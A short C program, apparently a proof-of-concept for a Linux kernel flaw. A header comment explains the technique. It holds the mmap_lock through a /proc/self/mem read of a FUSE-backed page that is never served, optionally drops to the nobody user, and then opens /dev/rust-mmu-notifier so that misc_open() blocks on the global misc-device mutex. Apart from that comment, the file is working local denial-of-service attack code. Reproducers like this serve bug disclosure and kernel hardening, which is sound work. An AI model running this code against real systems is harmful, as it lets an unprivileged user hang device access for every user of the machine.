/*
 * What it attacks: Registration::new() waits for the mmap_lock without a limit in a task that can be killed, and a driver
 * registers in open(), as all samples do, where misc_open() has the mutex of all misc devices.
 * The mmap_lock is held by a read of /proc/self/mem of a page that a FUSE server does not serve.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <errno.h>
#include <sys/prctl.h>
#include <sys/mman.h>
#include <unistd.h>
static char *p;
static void *peek(void *a) { char c; int f = open("/proc/self/mem", O_RDONLY); dprintf(1, "peek %d %zd\n", f, pread(f, &c, 1, (off_t)p)); return 0; }
int main(int argc, char **argv)
{
	pthread_t t;
	int m = open("/proc/self/mem", O_RDONLY); close(m);
	if (argc > 2 && setuid(65534)) return 1;
	prctl(PR_SET_DUMPABLE, 1);
	int f = open(argv[1], O_RDONLY); p = mmap(0, 4096, PROT_READ, MAP_SHARED, f, 0);
	if (p == MAP_FAILED) { perror("mmap"); return 1; }
	pthread_create(&t, 0, peek, 0);
	sleep(2);
	write(1, "opening\n", 8);
	int d = open("/dev/rust-mmu-notifier", O_RDONLY);
	dprintf(1, "open: %d %s\n", d, strerror(errno));
	pause();
}
